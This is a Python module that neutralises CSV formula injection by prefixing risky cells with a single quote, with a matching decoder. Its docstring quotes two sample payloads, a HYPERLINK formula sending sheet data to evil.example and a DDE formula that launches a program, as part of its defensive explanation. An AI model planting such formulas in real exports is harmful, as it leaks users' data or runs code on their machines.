"""CSV cells that a spreadsheet reads as text, never as a formula (OWASP "CSV Injection").

A cell that starts with = + - @ (or a tab or carriage return, which some spreadsheets skip
before looking) is run as a formula when the file is opened in Excel, LibreOffice or Google
Sheets: `=HYPERLINK("https://evil.example/?"&A1, "Click")` sends the sheet's data away, and
`=cmd|' /C calc'!A0` once ran programs. Content, translations and imported HSDS data come
from many hands, so every CSV Haven writes passes each cell through `safe_cell`: such a cell
gets a leading single quote, which spreadsheets take as "this is text" and do not show.

A cell that is only a number or a phone number (digits, spaces, + - ( ) . and no letters)
is left as it is: it cannot call a function, and 211 systems read HSDS phone numbers like
"+1 860-695-8400" and coordinates like "-72.68" as they are.
"""

from __future__ import annotations

import re

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_HARMLESS = re.compile(r"[+-]?[0-9][0-9 ().-]*")


def safe_cell(value: str) -> str:
    """`value` as a CSV cell a spreadsheet shows as text."""
    if value.startswith(TRIGGERS) and not _HARMLESS.fullmatch(value):
        return "'" + value
    return value


def read_cell(value: str) -> str:
    """A cell written by `safe_cell` (or any tool that follows OWASP), as the value it was."""
    if value.startswith("'") and value[1:].startswith(TRIGGERS):
        return value[1:]
    return value
